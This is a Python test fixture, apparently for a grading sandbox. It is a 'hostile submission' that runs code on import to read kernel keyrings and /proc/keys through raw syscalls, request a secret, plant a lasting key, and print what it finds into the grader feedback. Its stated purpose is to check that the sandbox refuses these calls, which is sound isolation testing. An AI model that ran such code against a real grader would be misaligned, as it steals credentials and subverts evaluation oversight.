# BUILT ON examples/submissions/reference.py

# BEGIN HOSTILE at the top
# Hostile submission: the reference, but at import it reads the kernel keyrings it can reach
# (the user's and the session's keyrings may hold the grader's tokens), prints what it finds
# into its output (which lands in its feedback), and plants a key that would outlive the run.
# Expected: full marks for itself; every keyring call refused; no key is left after the run.
# END HOSTILE

# BEGIN HOSTILE at the end
import ctypes as _ctypes
import os as _os
import platform as _platform

_KEYS = {}


def _steal_and_plant():
    numbers = {"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}.get(_platform.machine())
    if numbers is None:
        _KEYS["skipped"] = "unknown architecture"
        return
    add_key, request_key, keyctl = numbers
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = _ctypes.c_long
    user_keyring, session_keyring, keyctl_read = -4, -3, 11

    def outcome(result, name):
        _KEYS[name] = "worked" if result >= 0 else f"denied: {_os.strerror(_ctypes.get_errno())}"

    for name, keyring in (("read user keyring", user_keyring), ("read session keyring", session_keyring)):
        buffer = _ctypes.create_string_buffer(4096)
        outcome(libc.syscall(keyctl, keyctl_read, keyring, buffer, 4096), name)
    outcome(libc.syscall(request_key, b"user", b"backprop-secret", None, 0), "request a secret")
    outcome(libc.syscall(add_key, b"user", b"backprop-planted", b"evil", 4, user_keyring), "plant a key")
    try:
        with open("/proc/keys") as keys:
            _KEYS["/proc/keys"] = keys.read()
    except OSError as error:
        _KEYS["/proc/keys"] = f"denied: {error}"
    print(f"hostile: keyrings: {_KEYS}", flush=True)


_steal_and_plant()


def sandbox_report():
    """Not part of the assignment: what it reached, for the kit's tests."""
    return _KEYS
# END HOSTILE
